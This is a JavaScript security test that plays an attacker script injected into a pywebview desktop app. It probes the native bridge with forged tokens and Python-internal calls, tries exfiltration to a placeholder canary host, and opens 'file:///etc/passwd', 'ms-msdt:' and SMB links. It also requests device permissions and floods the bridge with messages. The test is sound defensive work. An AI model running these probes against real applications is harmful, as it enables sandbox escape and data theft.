// What an attacker who got a script into the page (a script in every test here is more than the CSP allows) would try.
(async () => {
  const CANARY = "__CANARY__";
  const found = {};
  const start = location.href;
  const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const tried = async (name, work) => {
    window.test.call("test.report", { value: { step: name } });
    try { found[name] = (await work()) ?? "nothing"; } catch (error) { found[name] = `error ${error.name}`; }
  };
  const answered = async (promise, ms = 600) => Promise.race([promise.then((reply) => reply.ok ? "answered" : reply.error.code), pause(ms).then(() => "silence")]);
  const { call, send, token } = window.test;

  await tried("good call", () => answered(call("app.hello"), 8000));
  await tried("forged token", () => answered(call("test.report", { value: "FORGED" }, "x".repeat(43))));
  await tried("no token", () => answered(call("test.report", { value: "FORGED" }, null)));
  for (const name of ["_window.gui.os.system", "__class__", "report.__globals__", "test.__init__", "hello", "app.hello.x"]) {
    await tried(`verb ${name}`, () => answered(call(name, {}), 8000));
  }
  await tried("surplus params", () => answered(call("app.hello", { path: "/etc/passwd" }), 8000));
  await tried("bug with a secret", async () => JSON.stringify(await call("test.fail")));

  // pywebview's own bridge, as its injected code would use it
  found["pywebview"] = typeof window.pywebview;
  const walks = ["_window.gui.os.mkdir", "pywebviewStateUpdate", "pywebviewMoveWindow", "__setattr__", "report"];
  const jsBridge = window.webkit?.messageHandlers?.jsBridge;
  if (jsBridge) {
    for (const funcName of walks) {
      jsBridge.postMessage(JSON.stringify({ funcName, params: ["__PWNED__"], id: "1" }));
      jsBridge.postMessage({ funcName, params: ["__PWNED__"], id: "1" });
    }
    found["doors"] = Object.keys(window.webkit.messageHandlers).length;
  }
  if (window.qt) {
    await tried("second channel", () => new Promise((resolve) => {
      new QWebChannel(qt.webChannelTransport, (channel) => {
        const names = Object.keys(channel.objects);
        for (const name of walks) channel.objects.external.send(JSON.stringify({ funcName: name, params: ["__PWNED__"], id: "1" }));
        resolve(`${names} call:${typeof channel.objects.external.call}`);
      });
      setTimeout(() => resolve("no channel"), 1000);
    }));
  }

  // places to go
  await tried("fetch", async () => (await fetch(CANARY)).status);
  await tried("fetch home", async () => (await fetch("/page.js")).status);
  await tried("beacon", () => String(navigator.sendBeacon(CANARY, "x")));
  await tried("image", () => new Promise((resolve) => {
    const image = new Image();
    image.onload = () => resolve("loaded");
    image.onerror = () => resolve("refused");
    image.src = `${CANARY}/image`;
  }));
  await tried("inline script", () => {
    const script = document.createElement("script");
    script.textContent = "window.INLINE = 1";
    document.head.append(script);
    return String(window.INLINE);
  });
  await tried("eval", () => String(eval("1+1")));
  await tried("innerHTML", () => { document.body.insertAdjacentHTML("beforeend", "<img src=x>"); return "taken"; });
  await tried("window.open", () => String(window.open(`${CANARY}/open`)));
  await tried("window.open vscode", () => String(window.open("vscode://file/etc/passwd")));
  const click = (attributes) => {
    const link = document.createElement("a");
    Object.assign(link, attributes);
    document.body.append(link);
    link.click();
  };
  for (const href of [`${CANARY}/link`, "file:///etc/passwd", "vscode://x", "ms-msdt:/id", "smb://127.0.0.1/x", "/page.js"]) {
    await tried(`link ${href.split(":")[0]}`, async () => { click({ href }); await pause(150); });
    await tried(`blank ${href.split(":")[0]}`, async () => { click({ href, target: "_blank" }); await pause(150); });
  }
  await tried("download", async () => { click({ href: "/page.js", download: "page.js" }); await pause(150); });
  await tried("location", async () => { location.href = `${CANARY}/location`; await pause(300); });
  await tried("location without capability", async () => { location.href = "/"; await pause(300); });
  await tried("location data", async () => { location.href = "data:text/html,hi"; await pause(300); });
  await tried("form", async () => {
    const form = Object.assign(document.createElement("form"), { action: `${CANARY}/form`, method: "post" });
    document.body.append(form);
    form.submit();
    await pause(300);
  });
  await tried("meta refresh", async () => {
    const meta = Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;url=${CANARY}/meta` });
    document.head.append(meta);
    await pause(500);
  });
  await tried("base", () => {
    document.head.append(Object.assign(document.createElement("base"), { href: CANARY }));
    return String(new URL("x", document.baseURI).origin === location.origin);
  });
  for (const [tag, attributes] of [["iframe", { src: `${CANARY}/frame` }], ["iframe", { src: start }], ["object", { data: `${CANARY}/object` }], ["embed", { src: `${CANARY}/embed` }]]) {
    await tried(`${tag} ${Object.values(attributes)[0] === start ? "of the page" : ""}`, async () => {
      const element = Object.assign(document.createElement(tag), attributes);
      document.body.append(element);
      await pause(300);
      let body = "";
      try { body = element.contentDocument?.body?.textContent ?? ""; } catch { body = "foreign"; }
      element.remove();
      return body === "" ? "empty" : body;
    });
  }
  await tried("iframe calls", async () => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    const door = frame.contentWindow.webkit?.messageHandlers?.jsBridge;
    door?.postMessage(JSON.stringify({ t: "x".repeat(43), id: 1, method: "test.report", params: { value: "FRAME" } }));
    const channel = typeof frame.contentWindow.qt;
    frame.remove();
    return channel;
  });
  await tried("worker", () => { new Worker("/page.js"); return "made"; });
  await tried("camera", async () => { await navigator.mediaDevices.getUserMedia({ video: true }); return "granted"; });
  await tried("place", () => new Promise((resolve) => {
    navigator.geolocation ? navigator.geolocation.getCurrentPosition(() => resolve("granted"), () => resolve("denied")) : resolve("denied");
    setTimeout(() => resolve("denied"), 1500);
  }));
  await tried("notification", async () => window.Notification ? await Notification.requestPermission() : "denied");
  await tried("alert", () => { alert("x"); return String(confirm("x")); });

  // floods
  const big = JSON.stringify({ t: token, id: 99_999_999, method: "test.report", params: { value: "x".repeat(1_000_000) } });
  await tried("a megabyte", () => { window.puiSend(big); return "sent"; });
  const codes = {};
  await tried("flood", async () => {
    const replies = [];
    for (let number = 0; number < 3000; number += 1) replies.push(answered(call("folder.list"), 8000));
    for (const code of await Promise.all(replies)) codes[code] = (codes[code] ?? 0) + 1;
  });
  found["flood codes"] = codes;
  await pause(3000);
  found["stayed"] = location.href === start;
  found["still works"] = await answered(call("app.hello"), 8000);
  history.replaceState({ old: token }, "");
  await call("test.report", { value: { found } });
  location.reload();
})();
